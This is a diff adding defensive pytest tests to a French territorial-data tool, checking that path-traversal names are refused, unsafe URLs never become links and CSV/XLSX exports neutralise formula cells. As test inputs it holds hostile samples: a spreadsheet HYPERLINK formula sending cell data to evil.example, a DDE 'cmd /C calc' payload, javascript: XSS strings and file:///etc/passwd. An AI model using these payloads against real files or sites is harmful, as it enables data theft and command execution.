@@ -12,6 +12,7 @@ from __future__ import annotations
 import errno
 import json
 import os
+import re
 import shutil
 import signal
 import subprocess
@@ -208,3 +209,133 @@ def test_a_signal_stops_a_report_within_two_seconds_leaving_no_process_and_no_te
     assert manifest["derniere_execution"]["interrompue"] == nom
     assert {p["statut"] for p in manifest["pages"]} <= {"ok", "echec", "interrompue"}
     assert any(p["statut"] == "interrompue" for p in manifest["pages"])
+
+
+# ── 3. names that become paths ───────────────────────────────────────────────
+
+def test_an_operator_code_that_would_leave_reports_is_refused_with_file_and_line(
+        fixture_warehouse, tmp_path, monkeypatch, capsys):
+    from territoires.warehouse import build as build_mod
+    from territoires.warehouse import chargement
+
+    home = _home_copie(fixture_warehouse, tmp_path / "home")
+    toml = tmp_path / "operateurs.toml"
+    texte = chargement.OPERATEURS_FILE.read_text(encoding="utf-8").replace('code = "megalis"', 'code = "../../x"')
+    toml.write_text(texte, encoding="utf-8")
+    ligne = next(i for i, line in enumerate(texte.splitlines(), 1) if '"../../x"' in line)
+    monkeypatch.setattr(chargement, "OPERATEURS_FILE", toml)
+    monkeypatch.setattr(build_mod, "OPERATEURS_FILE", toml)
+    monkeypatch.setenv("TERRITOIRES_HOME", str(home))
+    wh = home / "data" / "processed" / "territoires.duckdb"
+    avant = wh.read_bytes()
+    assert cli.main(["build", "--quiet", "--departements", "29"]) == cli.EXIT_ERREUR
+    err = capsys.readouterr().err
+    assert f"{toml}, ligne {ligne} : code d'opérateur '../../x' refusé" in err
+    assert wh.read_bytes() == avant
+    assert not list(tmp_path.rglob("x.html"))
+
+
+def test_paths_of_the_site_stay_inside_reports(tmp_path):
+    from territoires import noms
+    from territoires.reports import site
+
+    for niveau, code in [("operateur", "../../x"), ("operateur", "A"), ("epci", "../29"), ("region", "/etc"),
+                         ("departement", "29/../../x"), ("inconnu", "29")]:
+        with pytest.raises(noms.NomInvalide):
+            site.chemin_page(niveau, code)
+        with pytest.raises(noms.NomInvalide):
+            site.chemin_notebook(niveau, code)
+    assert site.chemin_page("departement", "2A") == "departement/2A.html"
+    assert site.chemin_page("operateur", "megalis") == "operateur/megalis.html"
+    for rel in ["../x.csv", "/tmp/x.csv", "a/../../x.csv"]:
+        with pytest.raises(noms.HorsDossier):
+            noms.dans_dossier(tmp_path, rel)
+    os.symlink("/tmp", tmp_path / "lien")
+    with pytest.raises(noms.HorsDossier):
+        noms.dans_dossier(tmp_path, "lien/x.csv")
+    assert noms.dans_dossier(tmp_path, "region/53-communes.csv") == tmp_path / "region" / "53-communes.csv"
+
+
+def test_a_source_id_that_would_leave_data_raw_is_refused(tmp_path):
+    from territoires.sources import REGISTRY_PATH, SourceError, load_registry
+
+    reg = tmp_path / "registry.toml"
+    reg.write_text(REGISTRY_PATH.read_text(encoding="utf-8").replace('id = "operateurs"', 'id = "../operateurs"'),
+                   encoding="utf-8")
+    with pytest.raises(SourceError, match=r"registry.toml, ligne \d+ : identifiant de source '../operateurs' refusé"):
+        load_registry(reg)
+
+
+# ── 4. links only where safe ─────────────────────────────────────────────────
+
+def test_a_javascript_url_in_the_sources_registry_is_never_a_link(fixture_warehouse, tmp_path, monkeypatch):
+    import duckdb
+
+    from territoires.reports import html
+
+    home = _home_copie(fixture_warehouse, tmp_path / "home")
+    wh = home / "data" / "processed" / "territoires.duckdb"
+    con = duckdb.connect(str(wh))
+    con.execute("update marts.sources set url = ' JavaScript:alert(document.domain)' where id = 'operateurs'")
+    con.execute("update marts.sources set url = 'https://www.data.gouv.fr/x?a=1&b=2' where id = 'classement-sites'")
+    con.close()
+    monkeypatch.setenv("TERRITOIRES_HOME", str(home))
+    assert cli.main(["report", "--quiet", "--scope", "departement:29", "--jobs", "1"]) == 0
+    page = (home / "reports" / "departement" / "29.html").read_text(encoding="utf-8")
+    assert not re.search(r"href=\"\s*javascript", page, re.IGNORECASE)  # the title stays, as text
+    assert 'href="https://www.data.gouv.fr/x?a=1&amp;b=2"' in page
+    for url in ["javascript:alert(1)", "JAVASCRIPT:x", "java\tscript:x", "\x01javascript:x", "data:text/html,x",
+                "vbscript:x", "//evil.example", "/relatif", "file:///etc/passwd", "https://", None, 42]:
+        assert "<a" not in html.lien_externe(url, "texte"), url
+    assert html.lien_externe("https://ok.fr/?q=<b>", "t") == '<a href="https://ok.fr/?q=&lt;b&gt;">t</a>'
+
+
+# ── 5. one writer for spreadsheets ───────────────────────────────────────────
+
+def test_a_formula_cell_is_neutralised_in_csv_and_xlsx_exports(fixture_warehouse, tmp_path, monkeypatch):
+    import duckdb
+    import openpyxl
+
+    home = _home_copie(fixture_warehouse, tmp_path / "home")
+    formule = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
+    con = duckdb.connect(str(home / "data" / "processed" / "territoires.duckdb"))
+    con.execute("update marts.presence_numerique set nom = ?, mairie_site = '@SUM(1+1)*cmd|'' /C calc''!A0' "
+                "where code = '29019'", [formule])
+    con.close()
+    monkeypatch.setenv("TERRITOIRES_HOME", str(home))
+    csv_path, xlsx_path = tmp_path / "c.csv", tmp_path / "c.xlsx"
+    assert cli.main(["export", "--niveau", "commune", "--format", "csv", "-o", str(csv_path)]) == 0
+    assert cli.main(["export", "--niveau", "commune", "--format", "xlsx", "-o", str(xlsx_path)]) == 0
+
+    import csv
+
+    rows = list(csv.reader(csv_path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
+    cells = [c for r in rows for c in r]
+    assert "'" + formule in cells and not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
+    assert any(c.startswith("'@SUM") for c in cells)
+    brest = next(r for r in rows if r[0] == "29019")
+    assert brest[rows[0].index("population")].isdigit()  # numbers stay numbers
+
+    wb = openpyxl.load_workbook(xlsx_path)
+    ws = wb["donnees"]
+    values = [(c.value, c.data_type) for row in ws.iter_rows() for c in row]
+    assert ("'" + formule, "s") in values
+    assert not any(t == "f" for _, t in values)  # no formula anywhere
+    entetes = [c.value for c in ws[1]]
+    ligne = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "29019")
+    assert isinstance(ligne[entetes.index("population")].value, int)
+
+
+def test_tableurs_rule():
+    import polars as pl
+
+    from territoires import tableurs
+
+    for dangereux in ["=1+1", "+33 1", "-2", "@x", "\tx", "\rx"]:
+        assert tableurs.neutraliser(dangereux) == "'" + dangereux
+    for inerte in ["Brest", "", "'=déjà", " =x", 3, -2.5, None]:
+        assert tableurs.neutraliser(inerte) == inerte
+    df = tableurs.neutraliser_df(pl.DataFrame({"t": ["=a", "b", None], "n": [-1, 2, 3]}))
+    assert df["t"].to_list() == ["'=a", "b", None] and df["n"].to_list() == [-1, 2, 3]
+    texte = tableurs.csv_texte(["a", "b"], [["=x", -3], [None, 1.5]])
+    assert texte == "a;b\r\n'=x;-3\r\n;1,5\r\n"
